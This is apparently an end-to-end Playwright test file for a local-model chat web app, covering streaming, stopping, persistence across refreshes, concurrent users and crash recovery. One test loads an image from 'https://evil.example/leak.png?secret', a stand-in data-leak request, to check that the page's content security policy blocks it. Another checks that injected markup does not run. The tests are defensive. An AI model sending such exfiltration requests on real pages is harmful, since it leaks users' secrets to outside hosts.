"""Chat in a real browser: watch, stop, ask again, come back; two people at once."""

import re
import time
from collections.abc import Callable

import pytest
from playwright.sync_api import expect

from tests.e2e.chat_page import SLIDER_PAUSE, ChatPage
from tests.e2e.conftest import NASTY, STORY, Visitor
from tests.e2e.lab import Lab
from tests.e2e.slider import slider


def story_told_to(visitor: Visitor, lab: Lab) -> ChatPage:
    """A chat in which a long answer grows."""
    chat = ChatPage(visitor.page(lab.url))
    chat.choose("story")
    chat.at_most()
    chat.ask("Tell me a story")
    expect(chat.answer()).to_contain_text("word002")
    return chat


def test_ask_stream_stop_ask_again_and_come_back(running: Lab, visitor: Visitor) -> None:
    chat = story_told_to(visitor, running)
    page = chat.page
    expect(chat.answer()).to_contain_text("word003")  # it streams …
    expect(chat.stop).to_be_visible()
    chat.box.fill("half a thought")  # … while one can type
    expect(chat.answer()).to_contain_text("word030")
    expect(chat.box).to_have_value("half a thought")
    chat.stop.click()
    expect(page.get_by_text("Stopped.")).to_be_visible()
    expect(chat.box).to_have_value("half a thought")
    shown = chat.words()
    assert "word400" not in shown
    expect(chat.answer().locator("summary")).to_contain_text("tokens/s")

    page.reload()
    expect(chat.regenerate).to_be_visible()
    assert chat.words() == shown
    expect(chat.model).to_have_value("story")

    chat.regenerate.click()
    expect(page.get_by_text("Stopped.")).to_have_count(0)
    expect(chat.answer()).to_contain_text("word010")
    chat.stop.click()
    expect(page.get_by_text("Stopped.")).to_be_visible()

    chat.ask("And again")
    expect(chat.answer(1)).to_contain_text("word005")
    page.get_by_role("button", name="Clear").first.click()
    expect(page.get_by_text("Ask something")).to_be_visible()
    expect(page.get_by_text("Tell me a story")).to_have_count(0)


def test_an_answer_goes_on_through_refresh_and_other_pages(running: Lab, visitor: Visitor) -> None:
    chat = story_told_to(visitor, running)
    page = chat.page
    page.reload()
    expect(chat.answer()).to_contain_text("word005")
    page.get_by_role("link", name="Dataset").click()
    expect(page.get_by_role("heading", name="Dataset")).to_be_visible()
    page.reload()
    page.get_by_role("link", name="Chat").click()
    expect(chat.answer()).to_contain_text("word400", timeout=60_000)
    expect(chat.regenerate).to_be_visible()


def test_a_new_question_comes_into_view_and_the_reader_may_leave_it(
    running: Lab, visitor: Visitor
) -> None:
    page = visitor.page(running.url)
    chat = ChatPage(page)
    chat.choose("story")
    chat.few_tokens()
    questions = [page.locator(f".st-key-question-{place}") for place in range(5)]
    for place in range(4):
        chat.ask(f"Question {place}")
        expect(chat.answer(place).locator("summary")).to_be_visible()
        expect(questions[place]).to_be_in_viewport()
        expect(chat.answer(place).locator("summary")).to_be_in_viewport()
    chat.at_most()
    chat.ask("Tell me a story")
    expect(chat.answer(4)).to_contain_text("word010")
    expect(questions[4]).to_be_in_viewport()
    chat.answer(4).hover()
    page.mouse.wheel(0, -5000)
    expect(questions[0]).to_be_in_viewport()
    expect(chat.answer(4)).to_contain_text("word080")  # some lines more
    expect(questions[0]).to_be_in_viewport()
    chat.stop.click()


def test_a_slow_press_on_stop_counts_while_the_answer_grows(running: Lab, visitor: Visitor) -> None:
    chat = story_told_to(visitor, running)
    page = chat.page
    chat.stop.hover()
    page.mouse.down()
    expect(chat.answer()).to_contain_text("word060")  # some lines more
    page.mouse.up()
    expect(chat.answer()).to_contain_text("Stopped.")


def test_a_question_sent_meanwhile_waits_its_turn(running: Lab, visitor: Visitor) -> None:
    page = visitor.page(running.url)
    chat = ChatPage(page)
    chat.choose("story")
    chat.at_most()
    chat.ask("First")
    expect(chat.answer()).to_contain_text("word002")
    chat.ask("Second")
    expect(chat.answer(1)).to_contain_text("Waits for the answer before it")
    chat.stop.click()
    expect(chat.answer(1)).to_contain_text("word001")
    expect(chat.answer(0)).to_contain_text("Stopped.")
    chat.stop.click()
    expect(chat.answer(1)).to_contain_text("Stopped.")


def test_two_people_at_once_get_their_own_answers(
    running: Lab, visitors: Callable[..., Visitor]
) -> None:
    chats = [ChatPage(visitors().page(running.url)) for _ in range(2)]
    alone = []
    for number, chat in enumerate(chats):
        chat.choose("tiny")
        chat.set_seed(number)
        chat.ask(f"Question {number}")
        expect(chat.regenerate).to_be_visible()
        expect(chat.answer().locator("summary")).to_contain_text(f"seed {number} ")
        alone.append(chat.words())
    assert alone[0] != alone[1]
    for chat in chats:  # now both at once: the same seeds, so the same words
        chat.regenerate.click()
    for number, chat in enumerate(chats):
        expect(chat.answer()).to_contain_text("2/2")
        expect(chat.answer().locator("details")).to_contain_text(f"Seed {number}")
        expect(chat.page.get_by_text(f"Question {1 - number}")).to_have_count(0)
        assert chat.words() == alone[number]


def test_the_receipt_and_the_settings_are_there_after_a_refresh(
    running: Lab, visitor: Visitor
) -> None:
    page = visitor.page(running.url)
    chat = ChatPage(page)
    chat.choose("tiny")
    chat.few_tokens()
    chat.set_seed(77)
    chat.ask("Who made you?")
    expect(chat.regenerate).to_be_visible()
    page.reload()
    expect(chat.model).to_have_value("tiny")
    expect(page.get_by_label("Seed", exact=True)).to_have_value("77")
    expect(slider(page, "Max new tokens")).to_have_value("16")
    receipt = chat.answer().locator("summary")
    expect(receipt).to_contain_text("tiny · seed 77")
    receipt.click()
    for words in ("Checkpoint tiny", "SHA-256", "at most 16 new tokens", "Ran on processor"):
        expect(chat.answer()).to_contain_text(words)


def test_one_s_stop_is_nobody_else_s(running: Lab, visitors: Callable[..., Visitor]) -> None:
    mine, other = (story_told_to(visitors(), running) for _ in range(2))
    mine.stop.click()
    expect(mine.answer()).to_contain_text("Stopped.")
    expect(other.stop).to_be_visible()
    expect(other.answer()).to_contain_text("word400", timeout=60_000)
    expect(other.regenerate).to_be_visible()
    expect(other.page.get_by_text("Stopped.")).to_have_count(0)
    assert other.words().split() == [word.strip() for word in STORY]
    assert "word400" not in mine.words()


def test_markup_in_words_is_shown_and_does_nothing(running: Lab, visitor: Visitor) -> None:
    page = visitor.page(running.url)
    chat = ChatPage(page)
    chat.choose("nasty")
    question = "".join(NASTY)
    chat.ask(question)
    expect(chat.regenerate).to_be_visible()
    assert chat.words() == question
    page.reload()
    expect(chat.regenerate).to_be_visible()
    assert page.evaluate("window.hacked") is None
    expect(chat.answer().locator("a, img, script, .katex")).to_have_count(0)
    for place in (page.locator(".st-key-question-0"), chat.answer()):
        words = place.get_by_test_id("stText").first
        expect(words.locator("a, img, b, strong, script, .katex")).to_have_count(0)
    # The visitor's fixture sees that nothing was fetched from elsewhere.


def test_a_remote_image_would_be_refused_by_the_browser(
    running: Lab, visitors: Callable[..., Visitor]
) -> None:
    """The second wall: even if markup got through, the page may not fetch from elsewhere."""
    visitor = visitors()
    page = visitor.page(running.url)
    ChatPage(page)
    refused = page.evaluate(
        """() => new Promise((resolve) => {
             document.addEventListener("securitypolicyviolation", (event) =>
               resolve(event.effectiveDirective))
             const image = new Image()
             image.src = "https://evil.example/leak.png?secret"
             setTimeout(() => resolve("loaded"), 3000)
           })"""
    )
    assert refused == "img-src"
    visitor.complaints.clear()
    visitor.foreign.clear()


def test_a_killed_server_loses_no_question_and_little_of_an_answer(
    lab: Lab, visitor: Visitor
) -> None:
    lab.start()
    page = visitor.page(lab.url)
    chat = ChatPage(page)
    chat.choose("story")
    chat.at_most()
    chat.ask("Remember me")
    expect(chat.answer()).to_contain_text("word020")
    time.sleep(1.2)
    lab.kill()
    address = page.url
    page.close()
    visitor.complaints.clear()  # the lost connection is the test's doing
    lab.start()
    page = visitor.page(address)
    chat = ChatPage(page)
    expect(page.get_by_text("Remember me")).to_be_visible()
    expect(chat.answer()).to_contain_text("word010")
    expect(chat.answer()).to_contain_text("Cut off")
    chat.regenerate.click()
    expect(page.get_by_text("Cut off")).to_have_count(0)
    expect(chat.answer()).to_contain_text("word005")


@pytest.mark.parametrize("label", ["Factual", "Creative"])
def test_presets_move_the_sliders(running: Lab, visitor: Visitor, label: str) -> None:
    page = visitor.page(running.url)
    ChatPage(page)
    slider(page, "Temperature").press("Home")
    page.evaluate(SLIDER_PAUSE)
    page.get_by_role("radio", name=label).or_(page.get_by_role("button", name=label)).first.click()
    wanted = re.compile("0.60" if label == "Factual" else "0.90")
    expect(page.locator(".st-key-temperature")).to_contain_text(wanted)
